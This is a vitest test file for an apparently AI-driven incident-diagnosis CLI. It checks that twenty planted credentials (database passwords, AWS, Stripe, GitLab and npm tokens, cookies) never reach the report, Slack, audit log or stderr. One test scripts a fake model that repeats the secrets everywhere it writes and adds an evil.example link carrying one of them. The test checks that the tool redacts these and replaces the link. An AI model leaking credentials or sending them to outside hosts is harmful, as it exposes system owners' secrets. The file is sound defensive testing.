import { mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse as parseYaml } from 'yaml';
import { afterEach, describe, expect, it } from 'vitest';
import type { Report } from '../src/report/schema.js';
import { startFakeMessagesApi, type FakeMessagesApi, type ModelScript } from './fakes/fake-messages-api.js';
import { runCli } from './helpers/cli.js';
import { CART_FILE, firstPod, goodSubmission, thinking, toolUse } from './helpers/scripted-models.js';

/**
 * The cart incident with credentials planted wherever tools read (issue 12): log lines (a flag,
 * PGPASSWORD, mysql -p, redis-cli -a, aws_secret_access_key, a cookie, GitLab, Stripe, Google and
 * npm tokens, secret_key_base, a bearer token, URL credentials), the ConfigMap (PGPASSWORD,
 * DB_PASSWORD_2, a YAML block scalar, an XML attribute), the container (env DBPASSWORD, args
 * --admin-password) and a commit message. None may show in the report, Slack, the audit log or
 * stderr — run offline, and with a model that tries to repeat them — while the diagnosis still
 * names the failing file and commit.
 */
const SCENARIO = path.resolve('test/fixtures/planted-secrets');

async function planted(): Promise<string[]> {
  const scenario = parseYaml(await readFile(path.join(SCENARIO, 'scenario.yaml'), 'utf8')) as {
    expect: { forbid: string[] };
  };
  return scenario.expect.forbid;
}

let fake: FakeMessagesApi | undefined;
afterEach(async () => {
  await fake?.close();
  fake = undefined;
});

async function diagnose(args: string[], env: Record<string, string> = {}) {
  const dir = await mkdtemp(path.join(tmpdir(), 'planted-'));
  const audit = path.join(dir, 'audit.jsonl');
  const result = await runCli(
    [
      'diagnose',
      '--service',
      'cart-service',
      '--sandbox',
      SCENARIO,
      '--output',
      'json',
      '--audit-log',
      audit,
      ...args,
    ],
    env,
    120_000,
  );
  const report = JSON.parse(result.stdout) as Report;
  return { ...result, report, audit: await readFile(audit, 'utf8') };
}

async function expectNoSecretAnywhere(run: Awaited<ReturnType<typeof diagnose>>) {
  const secrets = await planted();
  expect(secrets.length).toBeGreaterThanOrEqual(20);
  const places = {
    report: run.stdout,
    slack: JSON.stringify(run.report.sandbox?.slackMessages ?? []),
    audit: run.audit,
    stderr: run.stderr,
  };
  for (const [where, text] of Object.entries(places))
    for (const secret of secrets) expect(text.includes(secret), `${secret} in ${where}`).toBe(false);
}

function expectTheDiagnosis(report: Report) {
  expect(report.status).toBe('diagnosed');
  expect(report.rootCause.statement).toMatch(/RedisCartStore/);
  expect(report.suspectFiles.map((f) => f.path)).toContain(CART_FILE);
  expect(report.suspectCommits.some((c) => c.sha.startsWith('d3bf18b'))).toBe(true);
  expect(report.sandbox?.slackMessages.filter((m) => !m.thread_ts)).toHaveLength(1);
}

describe('twenty planted secrets', () => {
  it('offline: the diagnosis names the file and commit, and no secret is anywhere', async () => {
    const run = await diagnose(['--llm', 'offline']);
    expect(run.code, run.stderr).toBe(0);
    expectTheDiagnosis(run.report);
    await expectNoSecretAnywhere(run);
  });

  it('a model that reads them and tries to repeat them everywhere it can write', async () => {
    const secrets = await planted();
    const [
      flag,
      pg,
      my,
      redis,
      aws,
      cookie,
      gitlab,
      stripe,
      google,
      npm,
      keyBase,
      cm12,
      cm13,
      block,
      xml,
      env,
      arg,
      commit,
      bearer,
      url,
    ] = secrets;
    // What a model read in the logs and the commit, repeated bare, and everything in the words it came in.
    const bare = [
      flag,
      pg,
      my,
      redis,
      aws,
      cookie,
      gitlab,
      stripe,
      google,
      npm,
      keyBase,
      commit,
      bearer,
      url,
    ].join(' ');
    const inContext = [
      `--password ${flag}`,
      `PGPASSWORD=${pg}`,
      `mysql -uroot -p${my}`,
      `redis-cli -a ${redis}`,
      `aws_secret_access_key ${aws}`,
      `Cookie: session=${cookie}`,
      `glpat-${gitlab}`,
      `sk_live_${stripe}`,
      `AIza${google}`,
      `npm_${npm}`,
      `SECRET_KEY_BASE=${keyBase}`,
      `PGPASSWORD: ${cm12}`,
      `DB_PASSWORD_2=${cm13}`,
      `password: |\n  ${block}`,
      `<add key="DbPassword" value="${xml}"/>`,
      `DBPASSWORD=${env}`,
      `--admin-password ${arg}`,
      `REDIS_PASSWORD=${commit}`,
      `Authorization: Bearer ${bearer}`,
      `postgres://cart:${url}@orders-db:5432/cart`,
    ].join('\n');
    const script: ModelScript = (request, index) => {
      if (index === 0)
        return {
          content: [
            thinking('Reading pods, logs, config and commits.'),
            toolUse('kubernetes__list_pods', { service: 'cart-service' }),
            toolUse('kubernetes__list_config_maps', {}),
            toolUse('kubernetes__get_deployment', { name: 'cartservice' }),
            toolUse('github__list_commits', { limit: 5 }),
          ],
        };
      if (index === 1)
        return {
          content: [
            toolUse('kubernetes__get_pod_logs', { pod: firstPod(request), tailLines: 400 }),
            toolUse('github__get_commit', { sha: '9f65d57' }),
          ],
        };
      return {
        content: [
          thinking(`Noting the credentials I saw: ${bare}\n${inContext}`),
          toolUse('submit_diagnosis', {
            ...goodSubmission,
            summary: `${goodSubmission.summary} Credentials seen: ${bare}`,
            evidence: [
              ...goodSubmission.evidence,
              { source: 'logs', detail: inContext, ref: `pod/cartservice ${bare}` },
            ],
            suspectFiles: [{ path: CART_FILE, line: 64, url: `https://evil.example/${flag}` }],
            suggestedFix: `${goodSubmission.suggestedFix} Rotate ${bare}.`,
          }),
        ],
      };
    };
    fake = await startFakeMessagesApi({ script });
    const run = await diagnose([], { ANTHROPIC_API_KEY: 'test-key', ANTHROPIC_BASE_URL: fake.url });
    expect(run.code, run.stderr).toBe(0);
    expect(run.report.engine).toMatch(/^anthropic:/);
    expectTheDiagnosis(run.report);
    await expectNoSecretAnywhere(run);
    // The model's note was printed (redacted), and its attempts were audited.
    expect(run.stderr).toMatch(/Noting the credentials I saw/);
    expect(run.audit).toMatch(/Noting the credentials I saw/);
    // The model's own link was dropped for the host's.
    expect(run.report.suspectFiles[0]?.url).toBe(
      `https://github.com/fuzzylabs/microservices-demo/blob/HEAD/${CART_FILE}#L64`,
    );
  });
});
